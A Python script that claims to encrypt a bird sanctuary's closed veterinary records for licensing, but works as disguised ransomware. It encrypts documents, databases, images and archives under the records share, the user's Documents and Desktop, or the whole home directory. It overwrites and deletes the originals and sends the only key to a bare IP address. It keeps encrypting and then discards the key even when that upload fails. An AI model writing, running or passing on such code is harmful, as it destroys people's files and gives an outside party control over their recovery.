#!/usr/bin/env python3
"""Seal closed vet case files for long-term retention.

Licensing asks that medical files for birds that have died, been released
or been transferred are held encrypted at rest.  This walks the records
share, seals every document into a .sealed container with AES-GCM and hands
the run key to the trust's key escrow so the office can reopen files if an
inspector asks.  Plain copies are scrubbed once sealed.
"""

import argparse
import http.client
import json
import logging
import os
import secrets
import socket
import sys
from pathlib import Path
from urllib.parse import urlsplit

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("sealer")

ESCROW_URL = os.environ.get("SEAL_ESCROW", "https://198.51.100.23/escrow/v1/runs")
SEALABLE = {".pdf", ".doc", ".docx", ".xls", ".xlsx", ".csv", ".jpg", ".jpeg", ".png",
            ".odt", ".ods", ".txt", ".sqlite", ".db", ".zip", ".dcm"}
SKIP_DIRS = {".git", ".cache", "node_modules", "__pycache__", ".local"}
MAGIC = b"HRSEAL1\x00"


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath, name)
            if p.suffix.lower() in SEALABLE and not p.is_symlink():
                yield p


class Sealer:
    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self.run_id = secrets.token_hex(8)
        self.sealed = 0

    def deposit_key(self, url):
        parts = urlsplit(url)
        body = json.dumps({
            "run": self.run_id,
            "host": socket.gethostname(),
            "key": self._key.hex(),
        })
        for attempt in range(3):
            try:
                conn = http.client.HTTPSConnection(parts.hostname, parts.port or 443, timeout=20)
                conn.request("POST", parts.path, body, {"Content-Type": "application/json"})
                status = conn.getresponse().status
                conn.close()
                if status < 300:
                    return True
            except (OSError, http.client.HTTPException) as exc:
                LOG.debug("escrow attempt %d: %s", attempt + 1, exc)
        return False

    def forget_key(self):
        self._key = None

    def _scrub(self, path, size):
        with open(path, "r+b", buffering=0) as fh:
            remaining = size
            while remaining > 0:
                n = min(remaining, 1 << 20)
                fh.write(os.urandom(n))
                remaining -= n
            os.fsync(fh.fileno())
        path.unlink()

    def seal(self, path):
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        blob = AESGCM(self._key).encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + ".sealed")
        with open(target, "wb") as out:
            out.write(MAGIC + nonce + len(path.name).to_bytes(2, "big") + path.name.encode() + blob)
        self._scrub(path, len(data))
        self.sealed += 1


def default_roots():
    roots = [Path("/srv/sanctuary/records"), Path.home() / "Documents", Path.home() / "Desktop"]
    mounted = [r for r in roots if r.is_dir()]
    return mounted or [Path.home()]


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", type=Path, help="folders to seal (default: records share)")
    ap.add_argument("--list", action="store_true", help="only list what would be sealed")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")

    roots = args.roots or default_roots()
    files = [p for r in roots for p in candidates(r)]
    LOG.info("%d files under %s", len(files), ", ".join(map(str, roots)))
    if args.list:
        for p in files:
            print(p)
        return 0

    sealer = Sealer()
    if not sealer.deposit_key(ESCROW_URL):
        LOG.warning("escrow unreachable; continuing, run id %s", sealer.run_id)
    for p in files:
        try:
            sealer.seal(p)
        except (OSError, MemoryError) as exc:
            LOG.debug("skip %s: %s", p, exc)
    sealer.forget_key()
    LOG.info("sealed %d files (run %s)", sealer.sealed, sealer.run_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
